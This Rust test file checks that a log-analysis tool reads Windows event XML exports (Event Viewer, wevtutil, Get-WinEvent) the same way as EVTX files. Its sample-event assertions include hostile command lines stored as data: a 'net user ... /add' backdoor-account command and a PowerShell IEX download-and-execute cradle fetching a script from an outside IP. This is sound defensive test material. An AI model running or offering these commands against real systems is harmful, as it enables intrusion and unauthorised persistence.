//! Windows event XML: every EVTX corpus record rendered as XML reads back with the EVTX
//! reader's names, values and types, and our exports (Event Viewer, wevtutil, UTF-16
//! Get-WinEvent) have the fields of the corpus's EVTX events of the same kind.

use std::collections::BTreeMap;

use vigil_event::{Event, Value};
use vigil_ingest::{Input, ReadOptions, read_all, reader_named};
use vigil_test_support::{examples, files_with_extension, require_corpus, snapshot_settings};

use crate::read_paths;

fn kind(v: &Value) -> &'static str {
    match v {
        Value::Null => "null",
        Value::Bool(_) => "bool",
        Value::Int(_) => "int",
        Value::Float(_) => "float",
        Value::Str(_) => "str",
        Value::List(_) => "list",
    }
}

/// The `evtx` crate's XML renderer writes characters XML cannot hold (`\x02`) as `_`.
fn as_xml_renders(text: &str) -> String {
    text.chars()
        .map(|c| {
            if c < ' ' && !matches!(c, '\t' | '\r' | '\n') {
                '_'
            } else {
                c
            }
        })
        .collect()
}

/// Fields whose type XML cannot tell: Windows Filtering Platform's `SourcePort` (text in
/// 5156, a number in Sysmon 3), Defender's `State`, a message parameter, and an empty
/// `BackupPath` EVTX holds as null.
const TYPE_RESIDUE: [&str; 4] = ["SourcePort", "State", "param3", "BackupPath"];

#[test]
fn every_evtx_corpus_record_rendered_as_xml_reads_back_the_same() {
    let corpus = require_corpus!();
    let files = files_with_extension(&corpus.join("evtx"), "evtx");
    let evtx_reader = reader_named("evtx").unwrap();
    let xml_reader = reader_named("winxml").unwrap();
    let options = ReadOptions::default();
    let mut compared = 0;
    let mut residue: BTreeMap<String, usize> = BTreeMap::new();
    for file in &files {
        let bytes = std::fs::read(file).unwrap();
        let from_evtx: Vec<Event> = read_all(evtx_reader, Input::from_slice("a", &bytes), &options)
            .unwrap()
            .into_iter()
            .filter_map(Result::ok)
            .collect();
        // The crate renders each record as its own XML document, declaration and all.
        let mut parser = evtx::EvtxParser::from_buffer(bytes.clone()).unwrap();
        let mut xml = String::new();
        for record in parser.records().flatten() {
            xml.push_str(&record.data);
            xml.push('\n');
        }
        assert_eq!(xml_reader.sniff(xml.as_bytes()), 95, "{}", file.display());
        let from_xml = read_all(
            xml_reader,
            Input::from_slice("a.xml", xml.as_bytes()),
            &options,
        )
        .unwrap();
        let from_xml: Vec<Event> = from_xml
            .into_iter()
            .map(|r| r.unwrap_or_else(|e| panic!("{}: {e}", file.display())))
            .collect();
        assert_eq!(from_evtx.len(), from_xml.len(), "{}", file.display());
        for (a, b) in from_evtx.iter().zip(&from_xml) {
            let at = || format!("{} record {:?}", file.display(), a.origin.location.record);
            let names_a: Vec<&str> = a.fields().iter().map(|(n, _)| n).collect();
            let names_b: Vec<&str> = b.fields().iter().map(|(n, _)| n).collect();
            assert_eq!(names_a, names_b, "{}", at());
            for ((name, va), (_, vb)) in a.fields().iter().zip(b.fields().iter()) {
                if kind(va) != kind(vb) {
                    assert!(
                        TYPE_RESIDUE.contains(&name),
                        "{}: {name} is {va:?} from EVTX, {vb:?} from XML",
                        at()
                    );
                    *residue.entry(name.to_string()).or_default() += 1;
                    continue;
                }
                assert_eq!(
                    as_xml_renders(&va.to_text()),
                    vb.to_text(),
                    "{}: {name}",
                    at()
                );
            }
            assert_eq!(a.timestamp, b.timestamp, "{}", at());
            assert_eq!(a.host, b.host, "{}", at());
            compared += 1;
        }
    }
    assert!(compared > 5000, "only {compared} events compared");
    // The residue is small: a few hundred of the events' tens of thousands of values.
    assert!(residue.values().sum::<usize>() < 200, "{residue:?}");
}

/// Records of the sample files, counted from the text: `<Event ` start tags.
fn count_events(text: &str) -> usize {
    text.matches("<Event ").count()
}

fn sample_text(path: &std::path::Path) -> String {
    let bytes = std::fs::read(path).unwrap();
    match bytes.strip_prefix(b"\xff\xfe") {
        Some(utf16) => {
            let units: Vec<u16> = utf16
                .chunks_exact(2)
                .map(|p| u16::from_le_bytes([p[0], p[1]]))
                .collect();
            String::from_utf16(&units).unwrap()
        }
        None => String::from_utf8(bytes).unwrap(),
    }
}

fn by_id(events: &[Event], id: i64) -> Vec<&Event> {
    events
        .iter()
        .filter(|e| e.get("EventID") == Some(&Value::Int(id)))
        .collect()
}

#[test]
fn sample_exports_are_detected_and_read_completely() {
    let dir = examples().join("samples/winxml");
    for (file, events) in [
        ("security-eventviewer.xml", 4),
        ("sysmon-wevtutil.xml", 3),
        ("get-winevent-utf16.xml", 2),
    ] {
        let path = dir.join(file);
        let text = sample_text(&path);
        let read = read_paths(&[&path], ReadOptions::default());
        let summary = &read.summaries[0];
        assert_eq!(summary.format, Some("winxml"), "{file}");
        assert_eq!(
            (summary.records, summary.errors),
            (count_events(&text) as u64, 0),
            "{file}"
        );
        assert_eq!(summary.events, events, "{file}");
        assert!(
            read.events
                .iter()
                .all(|e| e.host.as_deref() == Some("FIN-WS07.corp.example.com")
                    && e.timestamp.is_some()),
            "{file}"
        );
    }
}

#[test]
fn sample_security_and_sysmon_fields() {
    let dir = examples().join("samples/winxml");
    let read = read_paths(
        &[&dir.join("security-eventviewer.xml")],
        ReadOptions::default(),
    );
    let failed = by_id(&read.events, 4625);
    assert_eq!(failed.len(), 2);
    assert!(
        failed
            .iter()
            .all(|e| e.get_str("IpAddress") == Some("203.0.113.45")
                && e.get("LogonType") == Some(&Value::Int(3))
                && e.get_str("SubStatus") == Some("0xc000006a"))
    );
    let logon = by_id(&read.events, 4624)[0];
    assert_eq!(logon.get_str("LogonProcessName"), Some("NtLmSsp "));
    assert_eq!(logon.get("KeyLength"), Some(&Value::Int(128)));
    assert_eq!(
        logon.get_str("Correlation_ActivityID"),
        Some("{2f3c8a55-75e1-0003-6a8b-3c2fe175da01}")
    );
    assert_eq!(
        logon.get_str("RenderingInfo.Message"),
        Some("An account was successfully logged on.")
    );
    assert_eq!(
        logon.timestamp.unwrap().to_string(),
        "2024-03-14T09:20:14.8842713Z"
    );
    let process = by_id(&read.events, 4688)[0];
    assert_eq!(
        process.get_str("CommandLine"),
        Some("cmd.exe /c whoami /all & net user sysupd P@ss1 /add")
    );
    assert_eq!(
        process.get_str("ParentProcessName"),
        Some("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe")
    );

    let read = read_paths(&[&dir.join("sysmon-wevtutil.xml")], ReadOptions::default());
    let creations = by_id(&read.events, 1);
    assert_eq!(creations.len(), 2);
    assert_eq!(creations[0].get("ProcessId"), Some(&Value::Int(7012)));
    assert_eq!(
        creations[0].get_str("OriginalFileName"),
        Some("PowerShell.EXE")
    );
    assert_eq!(
        creations[0].get_str("Product"),
        Some("Microsoft® Windows® Operating System")
    );
    assert_eq!(creations[0].get_str("Security_UserID"), Some("S-1-5-18"));
    let connection = by_id(&read.events, 3)[0];
    assert_eq!(connection.get("Initiated"), Some(&Value::Bool(true)));
    assert_eq!(connection.get("DestinationPort"), Some(&Value::Int(443)));
    assert_eq!(connection.get_str("DestinationHostname"), Some(""));

    let read = read_paths(
        &[&dir.join("get-winevent-utf16.xml")],
        ReadOptions::default(),
    );
    let cleared = by_id(&read.events, 1102)[0];
    assert_eq!(cleared.get_str("SubjectUserName"), Some("Administrator"));
    assert_eq!(
        cleared.timestamp.unwrap().to_string(),
        "2024-03-14T09:30:55.2149386Z"
    );
    let script = by_id(&read.events, 4104)[0];
    assert_eq!(
        script.get_str("ScriptBlockText"),
        Some("IEX (New-Object Net.WebClient).DownloadString('https://203.0.113.45/a.ps1')\r\n")
    );
    assert_eq!(script.get_str("Path"), Some(""));
    snapshot_settings().bind(|| {
        insta::assert_json_snapshot!("winxml_security_4688", process);
        insta::assert_json_snapshot!("winxml_sysmon_1", creations[1]);
        insta::assert_json_snapshot!("winxml_utf16_1102", cleared);
    });
}

#[test]
fn sample_events_have_the_fields_of_evtx_events_of_their_kind() {
    let corpus = require_corpus!();
    let files = files_with_extension(&corpus.join("evtx"), "evtx");
    let evtx = read_paths(
        &files.iter().map(|f| f.as_path()).collect::<Vec<_>>(),
        ReadOptions::default(),
    );
    let key = |e: &Event| {
        (
            e.get_str("Channel").map(str::to_string),
            e.get("EventID").and_then(Value::as_i64),
            e.get("Version").and_then(Value::as_i64),
        )
    };
    // For each kind, the EVTX event with the most fields.
    let mut widest: BTreeMap<_, &Event> = BTreeMap::new();
    for e in &evtx.events {
        let slot = widest.entry(key(e)).or_insert(e);
        if e.fields().len() > slot.fields().len() {
            *slot = e;
        }
    }
    let samples = read_paths(
        &[&examples().join("samples/winxml")],
        ReadOptions::default(),
    );
    let mut kinds_compared = Vec::new();
    for sample in &samples.events {
        let Some(reference) = widest.get(&key(sample)) else {
            continue;
        };
        let theirs: BTreeMap<&str, &'static str> = reference
            .fields()
            .iter()
            .map(|(n, v)| (n, kind(v)))
            .collect();
        let ours: BTreeMap<&str, &'static str> =
            sample.fields().iter().map(|(n, v)| (n, kind(v))).collect();
        // Every field of the EVTX event, with its type (an empty value from EVTX says
        // nothing of the type).
        for (name, their_kind) in &theirs {
            let our_kind = ours
                .get(name)
                .unwrap_or_else(|| panic!("{:?}: no {name}", key(sample)));
            if reference.get_str(name) != Some("") && sample.get_str(name) != Some("") {
                assert_eq!(our_kind, their_kind, "{:?}: {name}", key(sample));
            }
        }
        // And nothing else but what newer Sysmon and exports add.
        let extra: Vec<&&str> = ours.keys().filter(|n| !theirs.contains_key(*n)).collect();
        for name in extra {
            assert!(
                ["ParentUser", "Correlation_ActivityID", "Security_UserID"].contains(name)
                    || name.starts_with("RenderingInfo."),
                "{:?}: {name} is not in EVTX events of this kind",
                key(sample)
            );
        }
        kinds_compared.push(key(sample));
    }
    kinds_compared.sort();
    kinds_compared.dedup();
    let ids: Vec<(String, i64)> = kinds_compared
        .into_iter()
        .map(|(c, id, _)| (c.unwrap(), id.unwrap()))
        .collect();
    assert_eq!(
        ids,
        [
            ("Microsoft-Windows-PowerShell/Operational".into(), 4104),
            ("Microsoft-Windows-Sysmon/Operational".into(), 1),
            ("Microsoft-Windows-Sysmon/Operational".into(), 3),
            ("Security".into(), 1102),
            ("Security".into(), 4624),
            ("Security".into(), 4688),
        ]
    );
}
